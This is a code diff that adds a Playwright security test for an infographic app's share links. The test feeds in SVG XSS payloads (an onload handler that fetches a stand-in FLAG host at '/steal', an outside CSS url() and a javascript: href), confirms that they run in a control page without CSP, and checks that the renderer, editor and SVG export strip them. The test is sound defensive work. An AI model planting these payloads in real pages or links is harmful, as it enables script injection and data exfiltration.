@@ -9,6 +9,8 @@ import type { BrowserContext, Download, Page } from 'playwright-core';
 import { useBrowser } from './harness/browserSession';
 import { eventually } from './harness/eventually';
 import { RendererPage } from './pages/rendererPage';
+import { EditorPage } from './pages/editorPage';
+import { encodeShareCode } from '../../src/shared/links/shareLink';
 
 const session = useBrowser();
 
@@ -143,3 +145,81 @@ it('the exported SVG, PNG, JPEG, WebP, PDF and PowerPoint files run no script an
   // the app's own page saw no CSP violation either: nothing hostile reached the DOM for the CSP to stop
   expect(visit.watch.problems().cspViolations).toEqual([]);
 });
+
+/** The attack run's spec: the root <svg>'s onload, in the tagged-template form a filter on the value's text let through. */
+const ROOT_ONLOAD_SPEC = JSON.stringify(
+  {
+    template: 'list-row-simple-horizontal-arrow',
+    data: { title: 'Quarterly plan', lists: [{ label: 'Plan' }, { label: 'Do' }] },
+    svg: {
+      attributes: {
+        onload: "document.title='PWNED';window.__pwned='svgattr';fetch`${FLAG}/steal`",
+        style: `background:url(${FLAG}/style)`,
+        'xlink:href': 'javascript:fetch`' + FLAG + '/href`',
+      },
+    },
+  },
+  null,
+  2,
+);
+
+it.each(['/renderer', '/editor'])(
+  'a share link whose svg.attributes carry onload, an outside url() and javascript: on %s: the page warns, and Download SVG gives a file that runs and loads nothing',
+  async (path) => {
+    const visit = await session.visit();
+    const encoded = encodeShareCode(ROOT_ONLOAD_SPEC);
+    if (!encoded.ok) throw new Error(encoded.message);
+    await visit.app.goto(`${path}#v=1&code=${encoded.code}`);
+    const page = visit.app.page;
+    const button = (name: string) => page.getByRole('button', { name, exact: true });
+    if (path === '/renderer') await new RendererPage(page).waitForPictureText('Quarterly plan');
+    else await new EditorPage(page).preview.waitForPictureText('Quarterly plan');
+    // the live picture's root holds none of it (the CSP never had to block anything), and each is said at its line
+    if (path === '/editor') await button('Show problems').click();
+    const lines = ROOT_ONLOAD_SPEC.split('\n');
+    const lineOf = (key: string) => lines.findIndex((line) => line.trim().startsWith(`"${key}":`)) + 1;
+    for (const key of ['onload', 'style', 'xlink:href']) {
+      const said = page.getByText(
+        new RegExp(`line ${lineOf(key)}: The option svg\\.attributes\\.${key} \\(.*\\) is left out of the picture and its exports`, 'i'),
+      );
+      await eventually(
+        () => said.count(),
+        (count) => expect(count).toBe(1),
+        { what: `the unsafe_option warning for ${key}, at line ${lineOf(key)}` },
+      );
+    }
+    expect(
+      await page
+        .locator('[aria-label="Preview"] svg')
+        .first()
+        .evaluate((svg) => svg.getAttribute('onload')),
+    ).toBeNull();
+
+    const exportContext = await session.visit().then((v) => v.context);
+    const hits = await flagHits(exportContext);
+    // control: the attribute as the spec gives it, on an <svg> opened without CSP, does run and fetch (so the check can fail)
+    const raw = `<svg xmlns="http://www.w3.org/2000/svg" onload="${"document.title='PWNED';fetch`" + FLAG + '/steal`'}"><rect width="9" height="9"/></svg>`;
+    const control = await openWithoutCsp(exportContext, Buffer.from(raw), 'image/svg+xml');
+    await eventually(
+      async () => ({ hits: hits.slice(), title: await control.title() }),
+      (seen) => expect(seen).toEqual({ hits: ['/steal'], title: 'PWNED' }),
+      { what: 'the raw onload running in a page without CSP' },
+    );
+    await control.close();
+    hits.length = 0;
+
+    const file = await downloadOf(page, () => button('Download SVG').click());
+    const text = file.toString('utf8');
+    expect(text.replace(/<metadata id="infographic-source">[^<]*<\/metadata>/, '')).not.toMatch(/onload|PWNED|flag\.test|javascript:/i);
+    const opened = await openWithoutCsp(exportContext, file, 'image/svg+xml');
+    await opened.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
+    expect(
+      await opened.evaluate(() => ({ title: document.title, pwned: (window as unknown as { __pwned?: string }).__pwned ?? null })),
+    ).toEqual({
+      title: 'Quarterly plan',
+      pwned: null,
+    });
+    expect(hits).toEqual([]);
+    expect(visit.watch.problems().cspViolations).toEqual([]);
+  },
+);
